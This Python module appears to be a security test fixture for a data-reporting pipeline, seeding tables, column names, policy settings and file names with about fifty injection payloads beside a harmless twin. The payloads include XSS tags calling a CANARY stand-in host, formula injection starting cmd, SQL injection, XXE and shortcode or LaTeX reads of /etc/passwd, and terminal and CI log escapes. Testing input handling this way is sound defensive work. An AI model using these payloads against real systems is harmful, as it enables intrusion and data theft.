"""A world whose every text is an attack, and its twin, which is the same with harmless texts."""

from __future__ import annotations

import csv
import itertools
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pandas as pd
import yaml

from analysis.contract import INTERACTIONS, SESSIONS, USERS
from analysis.review import PROJECT
from analysis.sample import generate

TITLE = "owned-by-telemetry"
"""What a script that runs makes the title of the page."""
MARK = "mark-by-telemetry"
"""The id of an element that a script or markup that works leaves in the page."""
FILE = "/etc/passwd"
LONG = "long-" + "token" * 4_000

_RUNS = f"document.title='{TITLE}';document.body.insertAdjacentHTML('beforeend','<i id={MARK}>');"


@dataclass(frozen=True)
class Payload:
    """One hostile text, and what it tries. CANARY stands for the address of a server that must
    never be asked."""

    text: str
    tries: str

    @property
    def can_name(self) -> bool:
        """Whether the policy takes it for the name of a column."""
        return len(self.text) <= 100 and all(
            c >= " " and not "\x7f" <= c <= "\x9f" for c in self.text
        )


PAYLOADS = tuple(
    Payload(text, tries)
    for text, tries in (
        (f"<script>{_RUNS}fetch('CANARY/script')</script>", "a script"),
        (f"</script><script src=CANARY/src.js></script><b id={MARK}>", "a script from elsewhere"),
        (f"<img src=x onerror=\"{_RUNS}fetch('CANARY/onerror')\">", "an event handler"),
        (f"<svg onload={_RUNS}><image href=CANARY/svg.png /></svg>", "an SVG"),
        (f'"><iframe src="CANARY/frame" id={MARK}></iframe>', "an end of an attribute"),
        ("' onmouseover='fetch(`CANARY/over`)' x='", "an end of an attribute in single quotes"),
        (f"</td></tr></table></main><p id={MARK}>", "an end of the table"),
        (f"-->]]></textarea></title><h1 id={MARK}>", "an end of a comment, of CDATA, of the title"),
        ("</style><style>body{background:url(CANARY/css)}main{display:none}", "a style"),
        ("<link rel=stylesheet href=CANARY/link.css>", "a stylesheet from elsewhere"),
        ("<meta http-equiv=refresh content='0;url=CANARY/meta'>", "a redirect"),
        ("<base href=CANARY/>", "another base of all links"),
        ("<form action=CANARY/form><input autofocus onfocus=fetch('CANARY/focus')>", "a form"),
        ("[x](javascript:fetch('CANARY/link'))", "a Markdown link that runs a script"),
        ("![x](CANARY/canary.png)", "a Markdown image"),
        ("CANARY/autolink www.example.org @all #1 me@example.org", "a link of its own"),
        (f"```{{=html}}\n<b id={MARK}>x</b>\n```", "a raw block of Markdown"),
        (f"`<b id={MARK}>`{{=html}} <!-- ", "raw HTML of Markdown, and an open comment"),
        ("```{python}\nraise SystemExit\n```", "a code cell"),
        ("`{python} open('/etc/passwd').read()`", "inline code"),
        ("{{< env HOME >}}", "a shortcode that reads the environment"),
        ("{{< include /etc/passwd >}}", "a shortcode that reads a file"),
        ("{{% include /etc/passwd %}} {{{< env HOME >}}}", "the other forms of a shortcode"),
        (":::{.callout-note}\n# Heading\n:::", "a block of Quarto"),
        ("---\ntitle: owned\n---\n", "front matter"),
        ("| a | b |\n|---|---|\n\n# Heading *x* _y_ ~z~ \\", "a table and a heading"),
        ("@ref ?@fig-1 [^1] $$x$$ $\\input{/etc/passwd}$ $x$", "references and mathematics"),
        ("\\write18{id}\\input{/etc/passwd}", "LaTeX"),
        ('#read("/etc/passwd")', "Typst that reads a file"),
        ('#link("CANARY/typst")[x] #pagebreak() @ref <label> */ //', "Typst markup"),
        ('"] #image("/etc/passwd") [', "an end of a Typst string"),
        ('=HYPERLINK("CANARY/cell","x")', "a formula"),
        ("+cmd|' /C calc'!A0", "a formula that starts a program"),
        ("-2+3", "a formula that begins with a minus"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "a formula that begins with an at"),
        ("\t=1+1", "a formula behind a tab"),
        ("\r=1+1\n=2+2", "a formula behind line ends"),
        ("x;=1+1", "a formula where the semicolon separates"),
        ('x;"=1+1', "a formula where the semicolon separates, in quotes"),
        ("＝1+1", "a formula in full width"),
        ("\x1b[31mred\x1b[0m\x1b]0;owned\x07\x1b[2J\x9b31m", "escape sequences of a terminal"),
        ("nul\x00byte\x08\x7f", "a NUL, a backspace and a delete"),
        ("summary-\u202egnp.exe\u2066x\u2069\u061c", "bidirectional overrides"),
        ("zero\u200bwidth\ufeff\u00ad\u2060\U000e0041", "characters of no width, and a tag"),
        ("line\u2028separator\u2029\x85\x0b\x0c", "the other line ends"),
        ("%0A::error::owned", "an annotation, escaped"),
        ("\n::set-output name=x::y\r\n::error file=x,line=1::owned", "an annotation"),
        (
            "x ##[stop-commands]y ##vso[task.setvariable variable=x]y",
            "a command in a line of a log",
        ),
        ('&xxe;&lt;script&gt;<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "entities"),
        ("%s %d {0} {named!r} ${HOME} $(id) `id`", "formats and a shell"),
        ("'; DROP TABLE fact; --\" OR 1=1", "SQL"),
        ("not a number: nan inf None null NA", "names of nothing"),
        (
            "\ue000\ufdd0\uffff\U0001f468\u200d\U0001f469\u0301",
            "private, no characters, and joined",
        ),
        (LONG, "a text of 20 kB"),
    )
)

Text = Callable[[int], str]
"""Payload number → the text that stands for it in a world."""


def hostile(canary: str) -> Text:
    """The payloads themselves, with the address of the canary in them."""
    return lambda number: PAYLOADS[number].text.replace("CANARY", canary)


def harmless(number: int) -> str:
    """The twin's text: of the length of most payloads, and nothing but letters and digits."""
    return f"plain-value-{number:02}"


NAMING = tuple(k for k, p in enumerate(PAYLOADS) if p.can_name)
"""The payloads that may be names of columns in the policy."""
DIMENSION, CONTEXT, LABEL, OBJECTIVE, SPARSE = NAMING[0], NAMING[3], NAMING[4], NAMING[6], NAMING[9]


@dataclass(frozen=True)
class Words:
    """The texts of one world, by the number of the payload."""

    text: Text

    def flag(self, number: int) -> str:
        """The name of a column that the contract declares by its pattern *_flag."""
        return f"{self.text(number)}_flag"


def tables(words: Words, n_interactions: int = 6_000) -> dict[str, pd.DataFrame]:
    """The tables of the scenario `regressed`, every text in them replaced, and columns added whose
    names are payloads. Keys agree over the tables, and every rule of the contract is kept."""
    world = generate("regressed", n_interactions, 1)
    out = {name: table.to_pandas() for name, table in world.tables.items()}
    place = itertools.count()
    for frame in out.values():
        for column in frame.columns:
            if column.endswith("_id") and column != "release_id":
                frame[column] = _ids(frame[column], words)
            elif isinstance(frame[column].dtype, pd.CategoricalDtype | pd.StringDtype):
                frame[column] = _renamed(frame[column], words, place)
    rows = out[INTERACTIONS]
    number = pd.Series(range(len(rows)))
    late = rows["timestamp_utc"] >= pd.Timestamp("2026-11-02", tz="UTC")
    more: dict[str, Any] = {
        words.text(k): [
            words.text((n % (3 if new else 6) + 6 * k) % (len(PAYLOADS) - 1))
            for n, new in zip(number, late, strict=True)
        ]
        for k in NAMING[:4]
    }
    more[words.text(SPARSE)] = [words.text(SPARSE) if n % 10 else None for n in number]
    rows.loc[rows.index[:3], "country_code"] = words.text(len(PAYLOADS) - 1)
    flags = {words.flag(k): (number * 7 + k) % 19 == 0 for k in range(len(PAYLOADS) - 1)}
    common = rows["scenario"] == rows["scenario"].mode()[0]
    flags[words.flag(LABEL)] = (common & (number % 3 > 0)) | (number % 41 == 0)
    out[INTERACTIONS] = pd.concat([rows, pd.DataFrame({**more, **flags})], axis=1)
    for table in (SESSIONS, USERS):
        size = len(out[table])
        added = {words.text(k): [words.text(n % 50) for n in range(size)] for k in NAMING[:3]}
        out[table] = pd.concat([out[table], pd.DataFrame(added)], axis=1)
    return out


def _ids(values: pd.Series, words: Words) -> list[str]:
    """Each id behind a payload; the longest one stands once alone, for it would fill the disk."""
    size = len(PAYLOADS) - 1
    codes = {v: k for k, v in enumerate(sorted(set(values)))}
    return [f"{words.text(codes[v] % size if codes[v] else size)} {v}" for v in values]


def _renamed(values: pd.Series, words: Words, place: itertools.count[int]) -> list[str | None]:
    """Each category under the name of the next payload."""
    counts = values.value_counts().sort_index()
    named = {str(v): words.text(next(place) % (len(PAYLOADS) - 1)) for v in counts.index}
    return [None if pd.isna(v) else named[str(v)] for v in values]


def policy(words: Words, rows: pd.DataFrame) -> dict[str, Any]:
    """The report's policy, with a payload wherever it takes a text, and the columns named."""
    settings: dict[str, Any] = yaml.safe_load((PROJECT / "report" / "policy.yml").read_text())
    del settings["data"]
    settings["release"] = {
        "id": words.text(NAMING[0])[:120],
        "title": " ".join(words.text(k) for k in (20, 21, 27, 40, 42))[:200],
    }
    settings["dimensions"] = ["use_case", "scenario", "model_name", "region"]
    settings["dimensions"] += [words.text(DIMENSION), words.text(SPARSE), words.text(NAMING[10])]
    settings["windows"]["exclude"] = [
        {"start": f"{2000 + k}-01-01", "end": f"{2000 + k}-01-02",
         "reason": words.text(k)[:300]}
        for k in range(len(PAYLOADS))
    ]  # fmt: skip
    settings["slos"].append({"name": "hostile", "bad": words.flag(OBJECTIVE), "target": 0.9})
    settings["hotspots"]["metrics"].append(words.flag(OBJECTIVE))
    first = rows.iloc[0]
    use = {c: first[c] for c in settings["routing"]["action"]}
    settings["routing"]["context"].append(words.text(CONTEXT))
    settings["routing"]["candidates"] = [
        {"name": "one", "rules": [{"when": {"use_case": first["use_case"]}, "use": dict(use)}]},
        {"name": "two", "rules": [{"when": {words.text(CONTEXT): words.text(k)}, "use": dict(use)}
                                  for k in range(9)]},
        {"name": "lost", "rules": [{"when": {words.text(NAMING[11]): "x"}, "use": dict(use)}]},
    ]  # fmt: skip
    settings["drift"]["columns"] = [
        "channel", "repair_strategy", "failure_type", "user_feedback_label",
        *(words.text(k) for k in NAMING[:13]), *(words.flag(k) for k in NAMING[:13]),
    ]  # fmt: skip
    settings["triage"] |= {
        "label": words.flag(LABEL),
        "review_cost_usd": 4,
        "capacity_per_day": 1000,
        "queue_p90_guard": 2000,
    }
    return settings


def broken(own: Mapping[str, pd.DataFrame], words: Words) -> dict[str, pd.DataFrame]:
    """The tables with faults whose violations name hostile columns."""
    out = {name: frame.copy() for name, frame in own.items()}
    rows = out[INTERACTIONS]
    for k in range(len(PAYLOADS) - 1):
        rows[words.flag(k)] = rows[words.flag(k)].astype(object)
        rows.loc[rows.index[k], words.flag(k)] = words.text(k)
    for k, column in enumerate(
        ("timestamp_utc", "latency_ms", "cost_usd", "is_failure", "prompt_tokens")
    ):
        rows[column] = rows[column].astype(object)
        rows.loc[rows.index[k], column] = words.text(k)
    rows.loc[rows.index[7], "interaction_id"] = rows["interaction_id"].iloc[8]
    rows.loc[rows.index[9], "session_id"] = words.text(0)
    out[USERS] = out[USERS].iloc[1:]
    return out


def written(own: Mapping[str, pd.DataFrame], words: Words, folder: Path) -> Path:
    """The tables as files: CSV with every cell quoted, so that line ends and NULs stay in them, and
    the users as a folder of Parquet parts, one of them with a hostile name."""
    folder.mkdir(parents=True)
    for name in (INTERACTIONS, SESSIONS):
        frame = own[name].astype(object)
        with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file, quoting=csv.QUOTE_ALL)
            writer.writerow(frame.columns)
            for row in frame.itertuples(index=False, name=None):
                writer.writerow([_cell(v) for v in row])
    (folder / USERS).mkdir()
    half = len(own[USERS]) // 2
    shown = words.text(3).replace("/", "-").replace("<", "\x1b[2J\u202e<")
    for name, part in (("0", own[USERS][:half]), (shown, own[USERS][half:])):
        part.to_parquet(folder / USERS / f"{name}.parquet", index=False)
    return folder


def _cell(value: Any) -> str:
    if value is None or value is pd.NaT or value != value:
        return ""
    if isinstance(value, pd.Timestamp):
        return value.isoformat().replace("+00:00", "Z")
    return str(value)
